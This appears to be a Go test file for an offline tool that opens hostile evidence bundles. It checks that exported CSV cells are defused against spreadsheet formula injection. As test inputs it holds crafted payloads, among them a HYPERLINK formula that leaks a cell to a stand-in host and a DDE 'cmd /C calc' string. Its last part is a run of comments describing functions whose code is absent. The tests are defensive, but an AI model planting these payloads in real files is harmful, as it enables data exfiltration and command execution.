@@ -1,0 +1,204 @@
+package main
+
+import (
+	"bytes"
+	"encoding/csv"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+
+	"filippo.io/age"
+
+	"testimony/crypto"
+)
+
+// The tests of issue 17: hostile items, crafted outside the server (or
+// written by an older one), opened with the offline tool.
+
+// hostileEnv is an identity, and the output folder items are opened into.
+type hostileEnv struct {
+	t      *testing.T
+	dir    string
+	out    string
+	ids    []age.Identity
+	rs     *crypto.Recipients
+	stderr bytes.Buffer
+}
+
+func newHostileEnv(t *testing.T) *hostileEnv {
+	dir := t.TempDir()
+	keyFile, rs := newIdentity(t, dir, "key.txt")
+	ids, err := readIdentities([]string{keyFile})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &hostileEnv{t: t, dir: dir, out: filepath.Join(dir, "cases"), ids: ids, rs: rs}
+	old := stderr
+	stderr = &e.stderr
+	t.Cleanup(func() { stderr = old })
+	return e
+}
+
+// bundle writes a bundle of the items with the store's real code.
+func (e *hostileEnv) bundle(name string, specs ...*itemSpec) string {
+	path := filepath.Join(e.dir, name)
+	if err := writeBundle(path, specs, func(*itemSpec) (*crypto.Recipients, error) { return e.rs, nil }); err != nil {
+		e.t.Fatal(err)
+	}
+	return path
+}
+
+// open opens the files into the output folder.
+func (e *hostileEnv) open(files ...string) *openResult {
+	res, err := openInto(e.ids, e.out, files)
+	if err != nil {
+		e.t.Fatalf("open: %v\n%s", err, e.stderr.String())
+	}
+	return res
+}
+
+func (e *hostileEnv) read(name string) []byte {
+	b, err := os.ReadFile(filepath.Join(e.out, name))
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	return b
+}
+
+// itemDir is the one item folder of a source.
+func (e *hostileEnv) itemDir(source string) string {
+	m, _ := filepath.Glob(filepath.Join(e.out, source, "*"))
+	if len(m) != 1 {
+		e.t.Fatalf("%s holds %v, want one item", source, m)
+	}
+	return m[0]
+}
+
+// terminalActive finds what a terminal would act on: C0 controls but
+// newline and tab, DEL, C1 controls and the bidi formatting characters.
+// hostile is text that, printed raw to a terminal, clears the screen,
+// sets the window title and turns text round (issue 17, point 4).
+// Point 4: what open and report write for a terminal (standard error and
+// output, testimony.txt) shows a crafted item's controls visibly, never
+// raw; so do the spreadsheet's cells.
+// formulaStart finds a cell a spreadsheet would take for a formula.
+var formulaStart = regexp.MustCompile(`^\s*[=+\-@\t\r|%＝＋－＠]`)
+
+// Point 5: no cell of testimonies.csv, the header's and the language's
+// and form's included, starts like a formula, whether a spreadsheet
+// splits on "," or, as many do in Europe, on ";" or a tab.
+func TestSpreadsheetCellsDefused(t *testing.T) {
+	e := newHostileEnv(t)
+	spec := &itemSpec{Day: "2026-02-01", Source: "s-aaaa", Lang: "=1+1",
+		Answers: map[string]crypto.Answer{
+			`=HYPERLINK("http://example.invalid/?"&A2,"click")`: crypto.TextAnswer("x"),
+			"facility": crypto.TextAnswer("LED;=1+1"),
+			"account":  crypto.TextAnswer("tab\t=2+2 and \"quote\";@SUM(1)"),
+			"charges":  crypto.TextAnswer(" -3+4"),
+			"contact":  crypto.TextAnswer("|calc"),
+		}}
+	b := filepath.Join(e.dir, "b.tar")
+	if err := writeBundleForm(b, []*itemSpec{spec}, crypto.FormRef{ID: "+cmd|' /C calc'!A0", Version: 1}, e.rs); err != nil {
+		t.Fatal(err)
+	}
+	e.open(b)
+	raw := bytes.TrimPrefix(e.read("testimonies.csv"), []byte("\xEF\xBB\xBF"))
+	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 2 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for _, row := range rows {
+		for _, c := range row {
+			if formulaStart.MatchString(c) {
+				t.Errorf("cell %q starts like a formula", c)
+			}
+		}
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	// The piece after the ";" is defused too, the rest is as written.
+	if got := rows[1][col["facility"]]; got != "LED;'=1+1" {
+		t.Errorf("facility = %q, want %q", got, "LED;'=1+1")
+	}
+	if got := rows[1][col["lang"]]; got != "'=1+1" {
+		t.Errorf("lang = %q", got)
+	}
+	// Split on ",", ";" or a tab wherever one is, quoted or not, as
+	// LibreOffice set to ";" does: no piece starts like a formula, even
+	// after the quotes that begin a quoted cell.
+	for _, sep := range []string{",", ";", "\t"} {
+		for _, line := range strings.Split(string(raw), "\n") {
+			for _, c := range strings.Split(line, sep) {
+				if formulaStart.MatchString(strings.TrimLeft(c, `" `)) {
+					t.Errorf("split on %q, cell %q starts like a formula", sep, c)
+				}
+			}
+		}
+	}
+	libreOfficeFormulas(t, filepath.Join(e.out, "testimonies.csv"))
+}
+
+// libreOfficeFormulas converts a CSV with LibreOffice, the spreadsheet of
+// many groups, split on ",", ";" and tab, and fails if any cell became a
+// formula. Skipped without soffice.
+func libreOfficeFormulas(t *testing.T, csvFile string) {
+	t.Helper()
+	soffice, err := exec.LookPath("soffice")
+	if err != nil {
+		t.Log("soffice not installed: the CSV was not checked with LibreOffice")
+		return
+	}
+	dir := t.TempDir()
+	for _, sep := range []int{44, 59, 9} {
+		out := filepath.Join(dir, fmt.Sprint(sep))
+		// 59,34,76,1: separator, text delimiter ", UTF-8, from line 1;
+		// LibreOffice evaluates formulas in a CSV by default.
+		cmd := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
+			fmt.Sprintf("--infilter=CSV:%d,34,76,1", sep), "--convert-to", "fods", "--outdir", out, csvFile)
+		if b, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("soffice: %v\n%s", err, b)
+		}
+		fods, err := os.ReadFile(filepath.Join(out, "testimonies.fods"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if sep == 44 && !bytes.Contains(fods, []byte("LED;&apos;=1+1")) {
+			t.Errorf("LibreOffice, separator %d: the facility is not in the sheet", sep)
+		}
+		if m := regexp.MustCompile(`table:formula="[^"]*"`).FindAll(fods, -1); m != nil {
+			t.Errorf("LibreOffice, separator %d, evaluated formulas: %s", sep, bytes.Join(m, []byte(", ")))
+		}
+	}
+}
+
+// pngWith returns a PNG with a chunk of type typ holding data after IHDR.
+// jpegWith returns a JPEG with a segment after SOI.
+// Point 6: a working copy keeps only what is known to be safe. EXIF with
+// GPS in a chunk or segment the old strippers did not know stayed in the
+// .clean copy while the page said "GPS present: no".
+// Point 6, on the page: a file open does not clean is said to be
+// "metadata not checked", never passed over in silence.
+// Point 7: a manifest of more answer keys than any questionnaire gives is
+// refused with a message naming the item; the other items of the bundle
+// open. (Before, csvColumns checked each key against a growing list: 290,000
+// keys took 146 s, and as long again at every later open of the folder.)
+// writeRawItem writes an item whose manifest NewEnvelope would refuse, as
+// a crafted item would be made: the manifest entry of a tar, encrypted.
+// Point 8: a source named like a file open writes at the folder's root
+// does not take its place; the folder opens again and again.
+// Point 9: an attachment a browser would run as a page (.html, .svg, or
+// markup under a name a browser does not know) is not linked from the
+// pages; a text copy is, and the page says why.
+// checkNoScriptRuns loads, in headless Chromium with scripts on, every
+// attachment the page links, and fails if one ran its script; it loads an
+// unlinked original too, to show that this setup would run one. Skipped
+// without chromium.
